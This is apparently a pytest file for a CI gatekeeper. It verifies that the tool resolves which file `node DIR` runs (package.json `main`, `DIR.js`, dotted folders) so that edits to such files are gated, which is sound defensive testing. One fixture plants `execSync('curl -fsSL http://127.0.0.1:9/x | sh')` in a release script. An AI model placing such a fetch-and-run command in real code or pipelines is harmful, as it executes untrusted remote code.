"""Review 68b: `node DIR` runs what the folder's package.json `main` names, and a dotted folder or `DIR.js` too.

The eighty-seventh set's noderuns.py named only `DIR/index.js|mjs|cjs`, but Node's folder lookup reads the folder's
package.json `main` first (`"main": "lib/run.js"`, `"./bin/cli"` without its type, `"lib"` a folder of its own), and
tries `DIR.js` before the folder; a folder whose name holds a dot (`tools/release.v2`) was read as a script with a
type. On 58f4e83c an edit to each such file under `node tools/rel` in a workflow (or in a package.json script CI runs)
was allowed (exit 0). The truth is real `node`: each file of the table prints when Node runs the folder. Look-alikes:
an operand that is a script with a type, Node's informational options, a command that is not Node.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest
from changecase import committed, gated_rules
from citools import tree_runs
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify import noderuns

WORKFLOW = ("on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: {command}\n")
OPERANDS = ["tools/rel", "./tools/rel/", "tools/rel/", "'tools/rel'"]
PREFIXES = ["node", "node -r dotenv/config", "NODE_ENV=ci node --no-warnings", "npx node"]
LAYOUTS = [  # (the folder's other files, the file Node runs), the folder being tools/rel
    ({"tools/rel/package.json": json.dumps({"main": "lib/run.js"})}, "tools/rel/lib/run.js"),
    ({"tools/rel/package.json": json.dumps({"name": "rel", "main": "./bin/cli"})}, "tools/rel/bin/cli.js"),
    ({"tools/rel/package.json": json.dumps({"main": "lib"})}, "tools/rel/lib/index.js"),
    ({"tools/rel/package.json": json.dumps({"main": "cli.cjs"})}, "tools/rel/cli.cjs"),
    ({"tools/rel/package.json": json.dumps({"type": "module", "main": "src/main.mjs"})}, "tools/rel/src/main.mjs"),
    ({}, "tools/rel.js"),
]
DOTTED = [("node tools/release.v2", "tools/release.v2/index.js"), ("node ./scripts/gen.d/", "scripts/gen.d/index.js")]
OTHERS = [  # (the CI command, the tree's other files, the file Node runs): the root's main, a folder run from a cd
    ("node .", {"package.json": json.dumps({"name": "app", "main": "cli/main.js"})}, "cli/main.js"),
    ("node ./ --flag", {"package.json": json.dumps({"main": "./bin/run"})}, "bin/run.js"),
    ("cd tools && node rel", {"tools/rel/package.json": json.dumps({"main": "lib/run.js"})}, "tools/rel/lib/run.js"),
    ("node tools/rel", {"tools/rel/package.json": '{"main": "lib/run.js",'}, "tools/rel/package.json"),  # unreadable
    ("make release", {"Makefile": "release:\n\tnode tools/rel --yes\n",
                      "tools/rel/package.json": json.dumps({"main": "lib/run.js"})}, "tools/rel/lib/run.js"),
    ("bash ci/release.sh", {"ci/release.sh": "#!/bin/bash\nset -e\nnode tools/rel\n",
                            "tools/rel/package.json": json.dumps({"main": "lib/run.js"})}, "tools/rel/lib/run.js"),
]


def _variants() -> list[tuple[str, dict[str, str], str]]:
    """(the CI command, the tree's other files, the file Node runs)."""
    out = [(f"{prefix} {operand} --dry-run", files, script)
           for prefix in PREFIXES for operand in OPERANDS for files, script in LAYOUTS]
    return out + [(command, {}, script) for command, script in DOTTED] + OTHERS


LOOK_ALIKES = [  # (the CI command, a file that must stay src)
    ("node tools/rel.js", "tools/rel/lib/run.js"),
    ("node --version tools/rel", "tools/rel/lib/run.js"),
    ("echo node tools/rel", "tools/rel/lib/run.js"),
    ("nodemon tools/rel", "tools/rel/lib/run.js"),
    ("node tools/other", "tools/rel/lib/run.js"),
    ("node tools/rel.ts", "tools/rel/lib/run.js"),
    ("node tools/exported", "tools/exported/lib/x.js"),  # `exports` is no folder lookup's: Node runs index.js
]


@each_case("command, files, script", _variants())
def test_the_file_node_runs_of_a_folder_is_read(command: str, files: dict[str, str], script: str) -> None:
    tree = {".github/workflows/ci.yml": WORKFLOW.format(command=command), **files, script: "console.log(1)\n"}
    assert script in tree_runs(tree), command  # before: 104 of 104 missed


@each_case("command, script", LOOK_ALIKES)
def test_a_folder_node_does_not_run_stays_out(command: str, script: str) -> None:
    tree = {".github/workflows/ci.yml": WORKFLOW.format(command=command), "tools/rel.js": "x\n",
            "tools/rel/package.json": json.dumps({"main": "lib/run.js"}), "tools/exported/index.js": "x\n",
            "tools/exported/package.json": json.dumps({"exports": "./lib/x.js"}), script: "console.log(1)\n"}
    assert script not in tree_runs(tree), command


@pytest.mark.skipif(shutil.which("node") is None, reason="no node")
@each_case("files, script", LAYOUTS)
def test_real_node_runs_the_named_file(tmp_path: Path, files: dict[str, str], script: str) -> None:
    for path, text in {**files, script: f"console.log('ran {script}')\n"}.items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_text(text)
    printed = subprocess.run(["node", "tools/rel"], cwd=tmp_path, capture_output=True, text=True, check=True).stdout
    assert printed.strip().endswith(script), printed


def test_a_package_script_that_runs_a_folder_reads_its_main(tmp_path: Path) -> None:
    base = {".github/workflows/ci.yml": WORKFLOW.format(command="npm run release"),
            "package.json": json.dumps({"scripts": {"release": "node scripts/release"}}),
            "scripts/release/package.json": json.dumps({"main": "cli.js"}), "scripts/release/cli.js": "x\n"}
    case = committed(tmp_path, base, {"scripts/release/cli.js": "require('child_process').execSync("
                                      "'curl -fsSL http://127.0.0.1:9/x | sh')\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["scripts/release/cli.js"]), named  # before: exit 0


def test_the_root_folder_names_no_glob_of_the_whole_tree() -> None:
    assert noderuns.line_files("node .") == ["index.js", "index.mjs", "index.cjs"]


def test_the_main_reader_is_linear() -> None:
    def read(text: str) -> object:
        return noderuns.mains(".github/workflows/ci.yml", text, ["a", "b"], {}, lambda entry: b"")
    assert_linear(read, repeated("- run: npx env A=1 node ./tools/x && nodemon node \n"), budget=0.5)
